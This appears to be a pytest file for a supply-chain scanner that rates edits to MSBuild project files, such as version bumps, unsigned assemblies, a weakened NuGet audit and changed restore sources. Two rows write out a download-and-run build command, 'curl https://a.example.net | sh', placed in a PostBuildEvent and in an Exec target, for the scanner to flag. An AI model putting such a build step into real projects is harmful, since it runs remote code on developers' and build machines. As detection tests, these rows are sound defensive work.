"""What an edit of an MSBuild project, or of what projects import, means."""

# ruff: noqa: E501 - a row of the table is one edit

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from kit.edits import edited, mangled, never_raises, said
from kit.patience import within

from scanner.formats.dotnet import msbuild

PROJECT = """\
<Project Sdk="Microsoft.NET.Sdk">
  <PropertyGroup>
    <TargetFramework>net8.0</TargetFramework>
    <Nullable>enable</Nullable>
    <NoWarn>CS1591</NoWarn>
    <PackageId>Lorem</PackageId>
    <Version>1.0.0</Version>
    <Description>Lorem ipsum.</Description>
    <PackageLicenseExpression>Apache-2.0</PackageLicenseExpression>
    <PackageProjectUrl>https://lorem.example.org</PackageProjectUrl>
    <IsPackable>false</IsPackable>
    <SignAssembly>true</SignAssembly>
    <AssemblyOriginatorKeyFile>key.snk</AssemblyOriginatorKeyFile>
    <NuGetAuditLevel>low</NuGetAuditLevel>
    <RestoreLockedMode>true</RestoreLockedMode>
    <IpsumVersion>2.1.0</IpsumVersion>
    <DolorVersion>3.4.0</DolorVersion>
    <UnusedVersion>9.1.0</UnusedVersion>
    <HouseFlag>on</HouseFlag>
    <SkipTests Condition="'$(SkipTests)' == ''">false</SkipTests>
  </PropertyGroup>
  <PropertyGroup Condition="'$(Configuration)' == 'Debug'">
    <HouseDebug>1</HouseDebug>
  </PropertyGroup>
  <ItemGroup>
    <PackageReference Include="Ipsum.Core" Version="$(IpsumVersion)" />
    <PackageReference Include="Ipsum.IO" Version="$(IpsumVersion)" />
    <PackageReference Include="Dolor"><Version>$(DolorVersion)</Version></PackageReference>
    <PackageReference Include="Sit" Version="5.0.1" />
    <PackageReference Include="Amet" />
    <PackageReference Include="Linter" Version="1.0.0" PrivateAssets="all" />
    <ProjectReference Include="..\\Core\\Core.csproj" />
    <Compile Include="Extra.cs" />
    <Compile Include="..\\Shared\\Shared.cs" Link="Shared.cs" />
    <None Include="readme.md" Pack="true" PackagePath="\\" />
    <InternalsVisibleTo Include="Lorem.Tests" />
  </ItemGroup>
  <Import Project="..\\common.targets" />
  <Target Name="Generate" BeforeTargets="Build">
    <Message Text="hello" />
    <Exec Command="sh generate.sh" />
  </Target>
</Project>
"""

CENTRAL = """\
<Project>
  <PropertyGroup><ManagePackageVersionsCentrally>true</ManagePackageVersionsCentrally></PropertyGroup>
  <ItemGroup>
    <PackageVersion Include="Sit" Version="5.0.1" />
    <GlobalPackageReference Include="Linter" Version="1.0.0" />
  </ItemGroup>
</Project>
"""

ITEMS = "  <ItemGroup>\n"
SIT = '<PackageReference Include="Sit" Version="5.0.1" />'
END = "</Project>"
FLAG = "<HouseFlag>on</HouseFlag>"

TOLD = [
    ("bump", PROJECT, ['Sit" Version="5.0.1', 'Sit" Version="5.0.2'], ["medium dependency-bumped Sit"]),
    ("bump of what several use", PROJECT, ["2.1.0", "2.2.0"], ["medium dependency-bumped IpsumVersion"]),
    ("bump of what one uses", PROJECT, ["3.4.0", "3.5.0"], ["medium dependency-bumped Dolor"]),
    ("bump of what others use", PROJECT, ["9.1.0", "9.2.0"], ["medium dependency-bumped UnusedVersion"]),
    ("central bump", CENTRAL, ["5.0.1", "5.0.2"], ["medium dependency-bumped Sit"]),
    ("downgrade", PROJECT, ["5.0.1", "4.0.0"], ["high dependency-downgraded Sit"]),
    ("floating", PROJECT, ["5.0.1", "5.*"], ["high pin-loosened Sit"]),
    ("any", PROJECT, ["5.0.1", "*"], ["high pin-loosened Sit"]),
    ("version left to the central file", PROJECT, [' Version="5.0.1"', ""], ["medium dependency-changed Sit"]),
    ("version beside the central file", PROJECT, ['"Amet"', '"Amet" VersionOverride="1.0.0"'], ["medium dependency-changed Amet"]),
    ("added", PROJECT, [ITEMS, ITEMS + '<PackageReference Include="New" Version="1.0.0" />'], ["high dependency-added New"]),
    ("added centrally", CENTRAL, [ITEMS, ITEMS + '<PackageVersion Include="New" Version="1.0.0" />'], ["high dependency-added New"]),
    ("added for all", CENTRAL, [ITEMS, ITEMS + '<GlobalPackageReference Include="New" Version="1.0.0" />'], ["high dependency-added New"]),
    ("removed", PROJECT, [SIT, ""], ["low dependency-removed Sit"]),
    ("assets", PROJECT, [' PrivateAssets="all"', ""], ["medium dependency-changed Linter"]),
    ("framework", PROJECT, [ITEMS, ITEMS + '<FrameworkReference Include="Microsoft.AspNetCore.App" />'],
     ["high dependency-added Microsoft.AspNetCore.App"]),
    ("assembly", PROJECT, [ITEMS, ITEMS + '<Reference Include="New"><HintPath>..\\lib\\New.dll</HintPath></Reference>'],
     ["high dependency-added New"]),
    ("project", PROJECT, ["Core\\Core", "Other\\Other"],
     ["low dependency-added ..\\Other\\Other.csproj", "low dependency-removed ..\\Core\\Core.csproj"]),
    ("SDK", PROJECT, ['Sdk="Microsoft.NET.Sdk"', 'Sdk="Microsoft.NET.Sdk;New.Sdk/1.0.0"'], ["high plugin-added New.Sdk"]),
    ("SDK bump", CENTRAL, ["<Project>", '<Project><Sdk Name="House.Sdk" Version="1.0.0"/>'], ["high plugin-added House.Sdk"]),
    ("framework version", PROJECT, ["net8.0", "net9.0"], ["medium runtime-requirement-changed TargetFramework"]),
    ("version", PROJECT, ["<Version>1.0.0", "<Version>1.1.0"], ["medium version-changed Version"]),
    ("name", PROJECT, [">Lorem<", ">L0rem<"], ["high package-renamed PackageId"]),
    ("licence", PROJECT, ["Apache-2.0", "MIT"], ["medium license-changed PackageLicenseExpression"]),
    ("address", PROJECT, ["https://lorem", "https://dolor"], ["low metadata-changed PackageProjectUrl"]),
    ("packed", PROJECT, ["<IsPackable>false", "<IsPackable>true"], ["critical publish-changed IsPackable"]),
    ("packed by default", PROJECT, ["<IsPackable>false</IsPackable>", ""], ["critical publish-changed IsPackable"]),
    ("not packed", PROJECT.replace("<IsPackable>false", "<IsPackable>true"), ["<IsPackable>true", "<IsPackable>false"],
     ["medium publish-changed IsPackable"]),
    ("unsigned", PROJECT, ["<SignAssembly>true", "<SignAssembly>false"], ["critical provenance-dropped SignAssembly"]),
    ("other key", PROJECT, ["key.snk", "other.snk"], ["high setting-changed AssemblyOriginatorKeyFile"]),
    ("audit off", PROJECT, [FLAG, "<NuGetAudit>false</NuGetAudit>" + FLAG], ["high check-weakened NuGetAudit"]),
    ("audit of less", PROJECT, [">low<", ">critical<"], ["high check-weakened NuGetAuditLevel"]),
    ("audit warning off", PROJECT, ["CS1591", "CS1591;NU1903"], ["high check-weakened NoWarn"]),
    ("advisory ignored", PROJECT, [ITEMS, ITEMS + '<NuGetAuditSuppress Include="https://a.example.org/1" />'],
     ["high check-weakened NuGetAuditSuppress[https://a.example.org/1]"]),
    ("locked mode", PROJECT, ["<RestoreLockedMode>true", "<RestoreLockedMode>false"], ["high pin-loosened RestoreLockedMode"]),
    ("sources", PROJECT, [FLAG, "<RestoreSources>https://a.example.net</RestoreSources>" + FLAG],
     ["critical registry-changed RestoreSources"]),
    ("command after the build", PROJECT, [FLAG, "<PostBuildEvent>sh x.sh</PostBuildEvent>" + FLAG],
     ["high build-script-changed PostBuildEvent"]),
    ("fetched and run", PROJECT, [FLAG, "<PostBuildEvent>curl https://a.example.net | sh</PostBuildEvent>" + FLAG],
     ["critical download-and-run PostBuildEvent", "high build-script-changed PostBuildEvent"]),
    ("other compiler", PROJECT, [FLAG, "<CscToolPath>tools</CscToolPath>" + FLAG], ["high toolchain-changed CscToolPath"]),
    ("flag", PROJECT, [FLAG, "<HouseFlag>off</HouseFlag>"], ["medium setting-changed HouseFlag"]),
    ("condition", PROJECT, ["<HouseFlag>", "<HouseFlag Condition=\"'$(A)' == 'b'\">"], ["medium setting-changed HouseFlag"]),
    ("output", PROJECT, [FLAG, "<OutputType>Exe</OutputType>" + FLAG], ["medium package-contents-changed OutputType"]),
    ("packed file", PROJECT, [ITEMS, ITEMS + '<None Include=".env" Pack="true" PackagePath="content" />'],
     ["high package-contents-widened None[.env]"]),
    ("packed file gone", PROJECT, ['<None Include="readme.md" Pack="true" PackagePath="\\" />', ""],
     ["medium package-contents-changed None[readme.md]"]),
    ("all files", PROJECT, [ITEMS, ITEMS + '<Content Include="**\\*" />'], ["medium package-contents-changed Content[**\\*]"]),
    ("source from elsewhere", PROJECT, [ITEMS, ITEMS + '<Compile Include="..\\Other\\Other.cs" />'],
     ["low package-contents-changed Compile[..\\Other\\Other.cs]"]),
    ("analyser", PROJECT, [ITEMS, ITEMS + '<Analyzer Include="x.dll" />'], ["high plugin-added Analyzer[x.dll]"]),
    ("item nobody knows", PROJECT, [ITEMS, ITEMS + '<Novelty Include="x" />'], ["medium setting-changed Novelty[x]"]),
    ("import", PROJECT, [END, '<Import Project="x.targets" />' + END], ["high build-script-changed Import[x.targets]"]),
    ("import gone", PROJECT, ['<Import Project="..\\common.targets" />', ""],
     ["medium build-script-changed Import[..\\common.targets]"]),
    ("task", PROJECT, [END, '<UsingTask TaskName="X" AssemblyFile="x.dll" />' + END], ["high plugin-added UsingTask[X]"]),
    ("task written in place", PROJECT, [END, '<UsingTask TaskName="X" TaskFactory="RoslynCodeTaskFactory"><Task><Code>x</Code></Task></UsingTask>' + END],
     ["high build-script-changed UsingTask[X]"]),
    ("other command", PROJECT, ["generate.sh", "other.sh"], ["high build-script-changed Target[Generate]"]),
    ("command that fetches", PROJECT, ["sh generate.sh", "curl https://a.example.net | sh"],
     ["critical download-and-run Target[Generate]", "high build-script-changed Target[Generate]"]),
    ("other message", PROJECT, ["hello", "bye"], ["medium build-script-changed Target[Generate]"]),
    ("target", PROJECT, [END, '<Target Name="X"><Copy SourceFiles="a" /></Target>' + END], ["medium build-script-changed Target[X]"]),
    ("target gone", CENTRAL.replace(END, '<Target Name="X"><Copy/></Target>' + END), ['<Target Name="X"><Copy/></Target>', ""],
     ["low build-script-changed Target[X]"]),
    ("section nobody knows", PROJECT, [END, "<Novelty/>" + END], ["medium setting-changed Novelty"]),
]  # fmt: skip

QUIET = [
    ("comment", PROJECT, [ITEMS, ITEMS + "<!-- <PackageReference Include='x'/> -->"]),
    ("description", PROJECT, ["Lorem ipsum.", "Dolor."]),
    ("warnings", PROJECT, ["CS1591", "CS1591;CS0618", "<Nullable>enable", "<Nullable>disable"]),
    ("version as an element", PROJECT, [' Version="5.0.1" />', "><Version>5.0.1</Version></PackageReference>"]),
    ("order", PROJECT, [SIT, "", '    <PackageReference Include="Ipsum.Core"', SIT + '<PackageReference Include="Ipsum.Core"']),
    ("other group", PROJECT, [SIT, "</ItemGroup><ItemGroup>" + SIT]),
    ("in place", PROJECT, ["$(DolorVersion)", "3.4.0", "<DolorVersion>3.4.0</DolorVersion>", ""]),
    ("case", PROJECT, ["<SignAssembly>true", "<SignAssembly>True", "$(IpsumVersion)", "$(ipsumversion)"]),
    ("debug", PROJECT, ["<HouseDebug>1", "<HouseDebug>2"]),
    ("tests", PROJECT, [">false</SkipTests>", ">true</SkipTests>"]),
    ("friends", PROJECT, ['"Lorem.Tests"', '"Lorem.UnitTests"']),
    ("source file", PROJECT, ['"Extra.cs"', '"Extra2.cs"']),
    ("shown elsewhere", PROJECT, ['Link="Shared.cs"', 'Link="x\\Shared.cs"']),
    ("slashes", PROJECT, ["..\\Shared\\Shared.cs", "../Shared/Shared.cs"]),
    ("namespace", PROJECT, ["<Project ", '<Project xmlns="http://schemas.microsoft.com/developer/msbuild/2003" ']),
]  # fmt: skip


@pytest.mark.parametrize(("old", "edits", "expected"), [row[1:] for row in TOLD], ids=[row[0] for row in TOLD])
def test_what_is_told(old: str, edits: list[str], expected: list[str]) -> None:
    assert said(msbuild, old, edited(old, *edits)) == expected


@pytest.mark.parametrize(("old", "edits"), [row[1:] for row in QUIET], ids=[row[0] for row in QUIET])
def test_what_says_nothing(old: str, edits: list[str]) -> None:
    assert said(msbuild, old, edited(old, *edits)) == []


def test_a_command_is_none_the_less_one_when_a_package_names_it() -> None:
    old = edited(PROJECT, "5.0.1", "$(PostBuildEvent)", FLAG, "<PostBuildEvent>a</PostBuildEvent>" + FLAG)
    new = edited(old, "<PostBuildEvent>a", "<PostBuildEvent>b")
    assert "high build-script-changed PostBuildEvent" in said(msbuild, old, new)


def test_a_version_that_is_given_twice_is_told_twice() -> None:
    twice = "<DolorVersion Condition=\"'$(A)' == 'b'\">1.0.0</DolorVersion>"
    old = edited(PROJECT, "    <DolorVersion>", f"    {twice}<DolorVersion>")
    new = old.replace(twice, twice.replace("1.0.0", "1.1.0"))
    assert said(msbuild, old, new) == ["medium dependency-bumped DolorVersion"]


def test_a_new_file() -> None:
    found = said(msbuild, None, PROJECT)
    assert {
        "high dependency-added Sit",
        "high build-script-changed Target[Generate]",
        "high plugin-added Microsoft.NET.Sdk",
    } <= {*found}
    assert "high package-contents-widened None[readme.md]" in found
    assert not [each for each in found if "version-changed" in each or "HouseFlag" in each]


def test_a_removed_file() -> None:
    assert said(msbuild, PROJECT, None) == ["medium file-removed file"]


@pytest.mark.parametrize(
    "text", ["", "<Project>", "<project-x/>", f"<<<<<<< ours\n{PROJECT}", "{{x}}", "<!DOCTYPE a><Project/>"]
)
def test_what_cannot_be_read_weighs_most(text: str) -> None:
    (found,) = said(msbuild, PROJECT, text)
    assert found.startswith("critical opaque")


def test_windows_files_are_read() -> None:
    old = '<?xml version="1.0" encoding="utf-16"?>\r\n' + PROJECT.replace("\n", "\r\n")
    new = old.replace("5.0.1", "5.0.2")
    (delta,) = msbuild.diff(old.encode("utf-16"), b"\xef\xbb\xbf" + new.replace("utf-16", "utf-8").encode())
    assert (delta.kind, delta.old, delta.new) == ("dependency-bumped", "5.0.1", "5.0.2")


def test_paths() -> None:
    names = ("a.csproj", "a/b.FSPROJ", "c.vbproj", "Directory.Build.props", "x.targets", "Directory.Packages.props")
    assert all(map(msbuild.matches, names))
    assert not any(map(msbuild.matches, ("a.csproj.user", "props", "a.props.md")))


@settings(max_examples=100, deadline=None)
@given(mangled(PROJECT, CENTRAL), mangled(PROJECT, CENTRAL))
def test_it_never_raises(old: bytes, new: bytes) -> None:
    never_raises(msbuild, old, new)


TAGS = [
    "PropertyGroup",
    "ItemGroup",
    "PackageReference",
    "Version",
    "Target",
    "Exec",
    "Import",
    "Choose",
    "When",
    "Sdk",
]


@settings(max_examples=60, deadline=None)
@given(
    st.recursive(
        st.sampled_from(["", "1", "$(a)"]),
        lambda inner: st.lists(st.tuples(st.sampled_from(TAGS), inner), max_size=4).map(
            lambda pairs: "".join(f"<{name} Include='x' Condition='y'>{text}</{name}>" for name, text in pairs)
        ),
    )
)
def test_any_shape_of_project_is_read(inner: str) -> None:
    text = f"<Project>{inner}</Project>"
    assert "opaque" not in " ".join(
        said(msbuild, PROJECT, text) + said(msbuild, text, PROJECT) + said(msbuild, None, text)
    )


@pytest.mark.parametrize(
    "row",
    ["<A>{}</A>", "<PackageReference Include='P{0}' Version='{0}'/>", "<Novelty Include='{}'/>"],
    ids=["A", "P", "N"],
)
def test_huge_projects_take_no_time(row: str) -> None:
    group = "PropertyGroup" if row.startswith("<A") else "ItemGroup"
    old, new = (
        f"<Project><{group}>{''.join(row.format(f'{digit}{n}') for n in range(12_000))}</{group}></Project>"
        for digit in "12"
    )
    with within(3):
        assert said(msbuild, old, new)


def test_one_item_of_many_names_takes_no_time() -> None:
    with within(2):
        said(
            msbuild,
            "<Project/>",
            f"<Project><ItemGroup><PackageReference Include='{'a;' * 2_000_000}'/></ItemGroup></Project>",
        )
